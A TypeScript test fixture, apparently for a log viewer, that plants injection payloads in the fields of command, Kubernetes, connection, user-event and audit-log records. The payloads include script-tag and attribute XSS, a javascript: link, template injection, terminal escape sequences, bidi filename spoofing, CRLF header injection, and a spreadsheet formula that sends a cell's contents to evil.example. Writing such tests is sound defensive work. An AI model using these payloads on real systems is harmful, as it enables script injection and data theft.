import { randomUUID } from "node:crypto";
import type { LogSlug } from "@/lib/logs/views.ts";
import type { NativeRecord } from "./fixtures.ts";

/** What people type where they are recorded, so that whoever reads of it runs it. */
export const texts = {
  image: '<img src=x onerror="globalThis.hurt=1">',
  script: "</script><script>globalThis.hurt=1</script>",
  attribute: '" autofocus onfocus="globalThis.hurt=1" x="',
  link: "javascript:globalThis.hurt=1",
  template: "{{constructor.constructor('globalThis.hurt=1')()}}#{globalThis.hurt=1}",
  terminal:
    "\u001b[31mred\u001b]0;title\u0007\u001b]8;;javascript:globalThis.hurt=1\u001b\\click\u001b]8;;\u001b\\",
  direction: "user\u202egnp.exe\u2066abc\u200b",
  nul: "before\u0000after \\u0000 %00 \\x00",
  lines: "a\r\nSet-Cookie: hurt=1\r\n\r\n<b>",
  formula: '=HYPERLINK("http://evil.example/?"&A1)',
};

export const mark = `hostile ${crypto.randomUUID().slice(0, 8)}`;
export const names = Object.keys(texts) as (keyof typeof texts)[];
/** Whoever is named by a record has the mark too, so that the records are found again. */
export const named = (name: keyof typeof texts): string => `${texts[name]} ${mark}`;
export const time = (at: number): string => `2026-11-20T10:00:00.${String(at).padStart(6, "0")}Z`;

/** The log's fields, each with the text; and the filter that finds them by the mark. */
export const logs: {
  [log in LogSlug]?: { filter: string; record?: (text: string, user: string) => object };
} = {
  commands: {
    filter: "user",
    record: (text, user) => ({
      user,
      target: text,
      targetUser: text,
      command: text,
      space: text,
      outcome: "rejected",
      reason: text,
      clientAddress: text,
      workingDirectory: text,
    }),
  },
  "kubernetes-api-calls": {
    filter: "user",
    record: (text, user) => ({
      user,
      groups: [text],
      targetUser: text,
      cluster: text,
      namespace: text,
      resource: text,
      subresource: "exec",
      name: text,
      verb: text,
      requestUri: text,
      userAgent: `kubectl/v1.36 ${text}`,
      clientAddress: text,
      command: text,
      decision: text,
      reason: text,
    }),
  },
  "connection-events": {
    filter: "user",
    record: (text, user) => ({
      user,
      connectionRef: user,
      event: "open",
      kind: "ssh",
      space: text,
      target: text,
      targetUser: text,
      cause: text,
      clientAddress: text,
      clientSoftware: text,
    }),
  },
  connections: { filter: "user" },
  "user-events": {
    filter: "user",
    record: (text, user) => ({
      user,
      action: text,
      resource: text,
      outcome: "failure",
      clientAddress: text,
      userAgent: text,
      requestId: text,
    }),
  },
  "audit-log": {
    filter: "initiator",
    record: (text, user) => ({
      workflowId: randomUUID(),
      workflowType: "epbpolicy:update",
      eventType: "epbpolicy:update-failed",
      eventDescription: text,
      initiator: user,
      initiatorType: "tenant-user",
      target: text,
      targetType: "ebpPolicy",
      targetId: text,
      operationStatus: "failure",
      customValues: { [text]: text },
      updatedState: [text],
    }),
  },
};

export const records = Object.entries(logs).flatMap(([log, { record }]) =>
  record === undefined
    ? []
    : names.map((name, at) => ({ log, time: time(at), ...record(texts[name], named(name)) }) as NativeRecord),
);
